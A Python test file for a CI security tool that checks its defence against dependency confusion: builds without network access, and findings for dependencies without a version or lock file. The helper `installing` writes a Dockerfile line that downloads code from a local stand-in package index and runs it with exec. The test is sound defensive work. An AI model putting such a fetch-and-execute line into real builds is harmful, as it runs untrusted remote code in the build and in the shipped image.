"""A build installs somebody else's package under the name that was meant, or another version of it.

Number: 18
Defence: builds have no network, so that nothing is installed but what the commit or a pinned base image holds
(tasks/ci/images.py, tasks/ci/buildx.py); dependencies without a version or lock file are findings of their own
(interlock/ci/locks.py); base images are resolved once, recorded, and must be on a list where policy has one.
Not defended: what a developer locks or vendors: a package that was the wrong one when it was committed is built,
scanned and shipped. Base images whose makers install from several indexes.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from docker import APIClient

from interlock.ci.locks import unlocked
from interlock.errors import DockerError
from sandbox.parts.docker import Docker
from tests.docker.test_containers import BASE, Build
from tests.docker.test_containers import build as build  # noqa: PLC0414 - a fixture of that file

PACKAGE = "print('the package of the other index')"


@pytest.fixture
def index() -> Iterator[str]:
    """Another index than the one that was meant, which has a package of that name."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(PACKAGE.encode())

        def log_message(self, *_: object) -> None:
            """Nothing is told."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/simple/internal-name"
        server.shutdown()


def installing(index: str) -> dict[str, str]:
    """A build that installs from there, as pip with `--extra-index-url` does."""
    fetch = f"import urllib.request; exec(urllib.request.urlopen('{index}', timeout=5).read())"
    return {"Dockerfile": f'{BASE}RUN python -c "{fetch}"\n'}


def test_another_index_succeeds_where_builds_have_a_network(
    build: Build, index: str, docker_daemon: Docker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stranger's code runs in the build, and is in the image."""
    plain = APIClient.build
    monkeypatch.setattr(APIClient, "build", lambda *args, **how: plain(*args, **{**how, "network_mode": "host"}))
    said: list[str] = []

    build(installing(index), said=said)

    assert "the package of the other index" in said


def test_another_index_is_out_of_reach(build: Build, index: str, docker_daemon: Docker) -> None:
    """The build fails, and says that there is no network."""
    said: list[str] = []

    with pytest.raises(DockerError, match="network"):
        build(installing(index), said=said)

    assert "the package of the other index" not in said


@pytest.mark.parametrize(
    "line",
    [
        b"internal-name\n",
        b"internal-name>=1\n",
        b"internal-name @ https://example.org/x.whl\n",
        b"-e git+https://example.org/x.git\n",
        b"--editable=git+https://example.org/x.git#egg=x\n",
        b"https://example.org/x.whl\n",
        b"-r https://example.org/requirements.txt\n",
    ],
)
def test_a_dependency_that_names_no_version_is_refused(line: bytes) -> None:
    """It is a finding that blocks: nothing says which package is meant."""
    (finding,) = unlocked({"requirements.txt": line}, ["requirements.txt"])

    assert (finding.severity, finding.line) == ("HIGH", 1)


def test_a_manifest_without_a_lock_file_is_refused() -> None:
    """As is one whose lock file is in another folder."""
    manifest = {"web/package.json": b'{"dependencies": {"internal-name": "^1"}}'}

    (finding,) = unlocked(manifest, ["web/package.json", "other/package-lock.json"])

    assert finding.severity == "HIGH"
